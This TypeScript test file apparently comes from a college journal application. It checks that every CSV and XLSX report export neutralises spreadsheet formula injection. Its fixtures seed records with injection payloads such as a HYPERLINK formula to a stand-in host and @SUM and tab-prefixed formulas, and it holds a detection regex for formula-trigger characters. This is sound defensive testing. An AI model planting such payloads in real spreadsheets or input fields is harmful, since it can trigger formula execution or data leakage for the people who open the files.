/**
 * Formula injection (issue #26, item 2; OWASP «CSV Injection»): every CSV and XLSX the product writes, walked by its
 * report route with texts that a spreadsheet would evaluate — a student imported with «№ зачётной книжки» `=1+2`,
 * names, subject names, a teacher's name and КТП topics such as `=HYPERLINK("http://x.example/?d=1")`, `@SUM(1+1)`,
 * `-2+3`, `+7 912 000-00-00`, TAB and CR first. The files are parsed back (exceljs for XLSX): no cell is a formula, and
 * no text starting with a formula character is left as a spreadsheet would evaluate it (domain/spreadsheet-safety.ts).
 * The list of exports is the routes' declared formats (server/reports/routes.ts), so a new export cannot be missed.
 */
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { and, eq, inArray } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { strFromU8, unzipSync } from 'fflate';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  curricula,
  curriculumItems,
  groups,
  institutions,
  students,
  teachingAssignments,
  terms,
  users,
} from '../../db/schema';
import { parseDelimited } from '../../domain/delimited-text';
import type { Role } from '../../domain/roles';
import { STUDENT_COLUMNS } from '../../domain/student-import';
import { useDemoDatabase } from '../../test/demo-database';
import { demoJournalId } from '../../test/journal-fixtures';
import { todayOf } from '../policy/actor';
import { groupRoster } from '../queries/people';
import { importKtp, loadKtp, saveKtp } from '../services/journal/ktp';
import { importStudents } from '../services/people/student-import';
import { produceReport, REPORT_ROUTES, type ReportFile, type ReportRouteName } from './routes';

const demo = useDemoDatabase();

/** The texts a spreadsheet would evaluate, as the issue reported them and as OWASP lists their first characters. */
const HYPERLINK = '=HYPERLINK("http://x.example/?d=1")';
const FORMULAS = [HYPERLINK, '@SUM(1+1)', '-2+3', '+7 912 000-00-00', '\t=1+2', '\r=1+2'];
/** Independent of the helper under test: a first character from OWASP's list, and not a plain number. */
const dangerous = (text: string) => /^[=+\-@\t\r\n\0]/.test(text) && !/^[+-]?\d+([.,]\d+)?$/.test(text);

const ids = { group: 0, term: 0, journal: 0, curriculum: 0, teacher: 0 };

beforeAll(async () => {
  const db = demo.database.db;
  const { curator, teacher } = demo.actors;
  ids.group = curator.grants.find((g) => g.role === 'curator')!.groupId!;
  ids.term = (await db.select({ id: terms.id }).from(terms).where(eq(terms.startsOn, '2026-09-01')))[0]!.id;
  ids.journal = await demoJournalId(db, teacher);
  ids.teacher = teacher.userId;
  const [group] = await db.select().from(groups).where(eq(groups.id, ids.group));
  ids.curriculum = (
    await db
      .select({ id: curricula.id })
      .from(curricula)
      .where(and(eq(curricula.specialtyId, group!.specialtyId), eq(curricula.admissionYear, group!.admissionYear)))
  )[0]!.id;

  // The reported input: students imported into the curator's group with record-book numbers a spreadsheet evaluates.
  const books = ['=1+2', '@SUM(1+1)', '-2+3', '+7 912 000-00-00', '-5'];
  const csv = [
    STUDENT_COLUMNS.join(';'),
    ...books.map((b, i) => `Формулов;${['Иван', 'Пётр', 'Олег', 'Лев', 'Ян'][i]};;01.02.2009;"${b}";;;;;`),
  ].join('\r\n');
  const today = todayOf(curator);
  const imported = await importStudents(
    db,
    curator,
    {
      groupId: ids.group,
      fileName: 'список.csv',
      file: Buffer.from(csv, 'utf8').toString('base64'),
      effectiveOn: today,
      orderNo: '1-к',
      orderDate: today,
    },
    today,
  );
  expect(imported).toMatchObject({ ok: true, imported: books.length });

  // Names of students who were in the group all term (every group report lists them).
  const roster = (await groupRoster(db, curator, ids.group, '2026-10-01'))!.students;
  for (const [i, text] of FORMULAS.entries())
    await db.update(students).set({ lastName: text }).where(eq(students.id, roster[i]!.id));
  // The subjects of the group's curriculum and the demo teacher's name.
  const items = await db
    .select({ id: curriculumItems.id })
    .from(curriculumItems)
    .innerJoin(
      teachingAssignments,
      and(
        eq(teachingAssignments.institutionId, curriculumItems.institutionId),
        eq(teachingAssignments.curriculumItemId, curriculumItems.id),
      ),
    )
    .where(and(eq(teachingAssignments.groupId, ids.group), eq(teachingAssignments.termId, ids.term)));
  const itemIds = [...new Set(items.map((i) => i.id))];
  await db
    .update(curriculumItems)
    .set({ name: HYPERLINK, shortName: '@SUM(1+1)' })
    .where(inArray(curriculumItems.id, itemIds));
  await db.update(users).set({ lastName: '-2+3' }).where(eq(users.id, ids.teacher));
  // The college's city: the region's view of the colleges shows it.
  await db.update(institutions).set({ city: '@SUM(1+1)' }).where(eq(institutions.id, curator.institutionId!));
  // The journal's КТП, saved by its teacher.
  const ktp = await loadKtp(db, teacher, ids.journal);
  await saveKtp(db, teacher, {
    assignmentId: ids.journal,
    version: ktp.version,
    approvedBy: null,
    reviewedAt: null,
    rows: [
      { section: true, title: '=1+2', hours: 0, kind: null },
      ...FORMULAS.map((title) => ({ section: false, title: title.trim(), hours: 2, kind: 'lecture' })),
    ],
  });
});

interface ExportCase {
  route: ReportRouteName;
  format: 'csv' | 'xlsx';
  role: Role;
  query?: () => Record<string, string>;
  params?: () => Record<string, string>;
  /** A template with no data of the college: nothing seeded can reach it. */
  fixed?: true;
}

const term = () => String(ids.term);
const EXPORTS: ExportCase[] = [
  { route: 'group-roster/[groupId]', format: 'csv', role: 'curator', params: () => ({ groupId: String(ids.group) }) },
  {
    route: 'consolidated',
    format: 'xlsx',
    role: 'curator',
    query: () => ({ groupId: String(ids.group), termId: term(), format: 'xlsx' }),
  },
  {
    route: 'journal-keeping/[teacherId]',
    format: 'xlsx',
    role: 'methodist',
    query: () => ({ termId: term(), format: 'xlsx' }),
    params: () => ({ teacherId: String(ids.teacher) }),
  },
  {
    route: 'attendance',
    format: 'xlsx',
    role: 'curator',
    query: () => ({ groupId: String(ids.group), termId: term(), from: '2026-10-01', to: '2026-10-31', format: 'xlsx' }),
  },
  {
    route: 'curator-week/[groupId]',
    format: 'xlsx',
    role: 'curator',
    params: () => ({ groupId: String(ids.group) }),
    query: () => ({ date: '2026-11-25', period: 'month', format: 'xlsx' }),
  },
  {
    route: 'exam-sheet/[assignmentId]',
    format: 'xlsx',
    role: 'teacher',
    query: () => ({ format: 'xlsx' }),
    params: () => ({ assignmentId: String(ids.journal) }),
  },
  {
    route: 'ktp/[assignmentId]',
    format: 'xlsx',
    role: 'teacher',
    query: () => ({ format: 'xlsx' }),
    params: () => ({ assignmentId: String(ids.journal) }),
  },
  { route: 'hours', format: 'xlsx', role: 'methodist', query: () => ({ by: 'teacher', format: 'xlsx' }) },
  { route: 'hours', format: 'xlsx', role: 'methodist', query: () => ({ by: 'item', format: 'xlsx' }) },
  { route: 'monitoring', format: 'xlsx', role: 'methodist', query: () => ({ termId: term(), format: 'xlsx' }) },
  { route: 'region', format: 'xlsx', role: 'inspector' },
  {
    route: 'curriculum/[curriculumId]',
    format: 'xlsx',
    role: 'methodist',
    params: () => ({ curriculumId: String(ids.curriculum) }),
  },
  { route: 'curriculum-template', format: 'xlsx', role: 'admin', fixed: true },
  { route: 'student-template', format: 'xlsx', role: 'curator', fixed: true },
];

/** Every cell of a file as text, with what makes it safe or not. */
interface SheetCell {
  where: string;
  text: string;
  /** XLSX: the cell keeps its text when edited (number format Text, `@`). CSV: never (the text carries the guard). */
  textFormat: boolean;
}

async function cellsOf(file: ReportFile): Promise<SheetCell[]> {
  if (file.format === 'csv') {
    const text = typeof file.body === 'string' ? file.body : file.body.toString('utf8');
    return parseDelimited(text, ';').flatMap((row, r) =>
      row.map((cell, c) => ({ where: `строка ${r + 1}, столбец ${c + 1}`, text: cell, textFormat: false })),
    );
  }
  expect(file.format).toBe('xlsx');
  const body = file.body as Buffer;
  // No formula anywhere in the package, whatever exceljs would make of it.
  const parts = unzipSync(new Uint8Array(body));
  for (const [name, data] of Object.entries(parts))
    if (name.startsWith('xl/worksheets/')) expect(strFromU8(data), name).not.toMatch(/<f[ >]/);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  const cells: SheetCell[] = [];
  for (const sheet of workbook.worksheets)
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        const where = `${sheet.name}!${cell.address}`;
        expect(cell.type, `${where}: формула`).not.toBe(ExcelJS.ValueType.Formula);
        const v = cell.value as unknown;
        const text =
          typeof v === 'string'
            ? v
            : v && typeof v === 'object' && 'richText' in v
              ? (v as ExcelJS.CellRichTextValue).richText.map((r) => r.text).join('')
              : v && typeof v === 'object' && 'text' in v
                ? String(v.text)
                : null;
        if (text !== null && cell.type !== ExcelJS.ValueType.Merge)
          cells.push({ where, text, textFormat: cell.numFmt === '@' });
      }),
    );
  return cells;
}

describe('exports: no spreadsheet evaluates a text of the college', () => {
  it('every route that writes CSV or XLSX is walked here', () => {
    const declared = Object.entries(REPORT_ROUTES).flatMap(([name, route]) =>
      route.formats.filter((f) => f === 'csv' || f === 'xlsx').map((f) => `${name} ${f}`),
    );
    expect([...new Set(EXPORTS.map((e) => `${e.route} ${e.format}`))].sort()).toEqual(declared.sort());
  });

  it('no code writes a spreadsheet around the one writer of each kind', () => {
    // XLSX: workbookBuffer (server/services/spreadsheet.ts); CSV: toCsv (domain/spreadsheet-safety.ts).
    const root = path.resolve(import.meta.dirname, '../..');
    const offenders: string[] = [];
    for (const dir of ['app', 'components', 'domain', 'server', 'db', 'scripts'])
      for (const file of readdirSync(path.join(root, dir), { recursive: true }) as string[]) {
        if (!/\.(ts|tsx)$/.test(file) || /\.test\.ts$/.test(file)) continue;
        const relative = path.join(dir, file);
        const text = readFileSync(path.join(root, relative), 'utf8');
        if (/\.writeBuffer\(|\.xlsx\.write\(|\.csv\.write/.test(text) && relative !== 'server/services/spreadsheet.ts')
          offenders.push(`${relative}: пишет XLSX не через workbookBuffer`);
        if (/text\/csv/.test(text) && relative !== 'server/reports/routes.ts')
          offenders.push(`${relative}: отдаёт CSV не как отчёт`);
      }
    expect(offenders).toEqual([]);
  });

  for (const x of EXPORTS) {
    const label = `${x.route} ${x.format}${x.query ? ` ${new URLSearchParams(x.query?.() ?? {}).toString()}` : ''}`;
    it(`${x.route} (${x.format}, ${x.role})`, async () => {
      const file = await produceReport(demo.database.db, demo.actors[x.role], x.route, {
        query: new URLSearchParams(x.query?.() ?? {}),
        params: x.params?.() ?? {},
        body: null,
      });
      expect(file.format).toBe(x.format);
      const cells = await cellsOf(file);
      const unsafe = cells.filter((c) => dangerous(c.text) && !c.textFormat).map((c) => `${c.where}: ${c.text}`);
      expect(unsafe, label).toEqual([]);
      if (x.fixed) return;
      // The seeded texts reached the file (else this export was not tested), kept readable: CSV with the apostrophe,
      // XLSX exactly.
      const reached = cells.filter((c) =>
        FORMULAS.some((f) => (x.format === 'csv' ? c.text.includes(`'${f}`) : c.text.includes(f.trim()))),
      );
      expect(reached.length, `${label}: ни одно из подставленных значений не попало в файл`).toBeGreaterThan(0);
    });
  }

  it('the group list keeps the imported record-book numbers readable, and a real number as it is', async () => {
    const file = await produceReport(demo.database.db, demo.actors.curator, 'group-roster/[groupId]', {
      query: new URLSearchParams(),
      params: { groupId: String(ids.group) },
      body: null,
    });
    const rows = parseDelimited(file.body as string, ';');
    const books = rows.filter((r) => r[1]?.startsWith('Формулов')).map((r) => r[3]);
    expect(books.sort()).toEqual(["'+7 912 000-00-00", "'-2+3", "'=1+2", "'@SUM(1+1)", '-5']);
  });

  it('an XLSX template with such topics imports back as the same text (the КТП round trip)', async () => {
    const db = demo.database.db;
    const { teacher } = demo.actors;
    const before = await loadKtp(db, teacher, ids.journal);
    const file = await produceReport(db, teacher, 'ktp/[assignmentId]', {
      query: new URLSearchParams({ format: 'xlsx' }),
      params: { assignmentId: String(ids.journal) },
      body: null,
    });
    await importKtp(db, teacher, {
      assignmentId: ids.journal,
      version: before.version,
      file: (file.body as Buffer).toString('base64'),
    });
    const after = await loadKtp(db, teacher, ids.journal);
    expect(after.rows.map((r) => r.title)).toEqual(before.rows.map((r) => r.title));
    expect(after.rows.map((r) => r.title)).toContain(HYPERLINK);
  });
});
